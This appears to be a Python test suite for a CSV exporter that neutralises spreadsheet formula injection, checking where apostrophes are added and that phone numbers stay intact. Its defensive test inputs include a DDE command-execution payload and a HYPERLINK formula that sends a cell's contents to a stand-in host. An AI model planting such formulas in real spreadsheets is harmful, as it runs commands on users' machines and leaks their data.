from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.formats.tables import CELLS, PEOPLE, tables
from tooling.formats.delimited import disarm, to_csv
from tooling.formats.table import Table

E164 = re.compile(r"\+[0-9]{7,15}")


def read(data: bytes) -> list[tuple[str, ...]]:
    return [tuple(row) for row in csv.reader(io.StringIO(data.decode(), newline=""), strict=True)]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet might: written apart from the code under test, by trimming."""
    if E164.fullmatch(cell):
        return False
    return cell[:1] in ("\t", "\r", "\n") or evaluates(cell)


def evaluates(cell: str) -> bool:
    """Whether an operator comes first once blanks and quotes are gone."""
    while cell and (cell[0] == '"' or is_unseen(cell[0])):
        cell = cell[1:]
    first = unicodedata.normalize("NFKC", cell[:1])
    return first in ("=", "+", "-", "@", "\N{MINUS SIGN}")


def is_unseen(character: str) -> bool:
    return unicodedata.category(character) in ("Zs", "Zl", "Zp", "Cc", "Cf")


def test_the_bytes_of_a_list() -> None:
    table = Table(
        ("id", "phone", "organisation"),
        (("k7m2qd4x", "+358405550123", 'Sähkö "Oy", Ab'), ("b3w9x2fh", "", "Kaksi\nriviä")),
    )
    assert (
        to_csv(table)
        == (
            "id,phone,organisation\r\n"
            'k7m2qd4x,+358405550123,"Sähkö ""Oy"", Ab"\r\n'
            'b3w9x2fh,,"Kaksi\nriviä"\r\n'
        ).encode()
    )


def test_people_come_back_letter_for_letter() -> None:
    assert read(to_csv(PEOPLE)) == [PEOPLE.columns, *PEOPLE.rows]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\tplain",
        "\rplain",
        "\nplain",
        "  =1+1",
        "\xa0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x01=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM",
        "−1+1",
        '"=1+1',
        '" =1+1',
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://x.example?"&A1)',
        "+358 40 555 0123",
        "+358405550123+1",
        "+358405",
        "+1234567890123456",
        "+358405550123\n",
    ],
)
def test_a_formula_gets_an_apostrophe_in_front(cell: str) -> None:
    assert runs_as_formula(cell)
    assert disarm(cell).startswith("'")


def test_no_unseen_character_hides_a_formula() -> None:
    unseen = [chr(code) for code in range(sys.maxunicode + 1) if is_unseen(chr(code))]
    assert len(unseen) > 200
    bare = [hidden for hidden in unseen if evaluates(disarm(f"{hidden}=1"))]
    assert not [hex(ord(hidden)) for hidden in bare]


@pytest.mark.parametrize(
    ("cell", "harmless"),
    [
        ("Oy;=1+1", "Oy;'=1+1"),
        ("Oy|@SUM", "Oy|'@SUM"),
        ("Oy\t-1+1", "Oy\t'-1+1"),
        ('Oy\r\n "=1+1', "Oy\r\n' \"=1+1"),
        ("puh;+358405550123", "puh;'+358405550123"),
    ],
)
def test_a_formula_behind_another_delimiter_gets_one_too(cell: str, harmless: str) -> None:
    assert disarm(cell) == harmless


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "+358405550123",
        "+1234567",
        "+123456789012345",
        "06100",
        "Åkerlund & Rausing",
        "Virtanen-Nieminen",
        "maija+uutiset@x.example",
        "A=B Oy",
        'Oy "-" Ab',
        "'t Hooft",
        "Jyväskylä, -1 krs",
        "Ω",
    ],
)
def test_what_is_no_formula_stays_letter_for_letter(cell: str) -> None:
    assert disarm(cell) == cell


def test_a_column_name_is_disarmed_too() -> None:
    assert to_csv(Table(("=id",), ())) == b"'=id\r\n"


@given(tables())
def test_no_cell_of_the_file_runs_under_any_delimiter(table: Table) -> None:
    data = to_csv(table)
    assert not [cell for row in read(data) for cell in row if runs_as_formula(cell)]
    # A reader that takes another delimiter ends a cell there whatever our quotes say, and at each
    # line break.
    for delimiter in ";|\t":
        pieces = re.split(f"[{delimiter}\r\n]", data.decode())
        assert not [piece for piece in pieces if evaluates(piece)]


@given(CELLS)
@example("'=1+1")
def test_disarming_twice_changes_nothing(cell: str) -> None:
    assert disarm(disarm(cell)) == disarm(cell)


@given(CELLS)
def test_only_apostrophes_are_added(cell: str) -> None:
    carried = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", cell)
    assert disarm(cell).replace("'", "") == carried.replace("'", "")


@given(st.from_regex(r"\A\+[0-9]{7,15}\Z"))
def test_a_telephone_number_is_never_touched(number: str) -> None:
    assert disarm(number) == number


@given(tables(st.text(alphabet=st.characters(categories=["L", "N"]))))
def test_letters_and_digits_come_back_as_they_were(table: Table) -> None:
    assert read(to_csv(table))[1:] == list(table.rows)
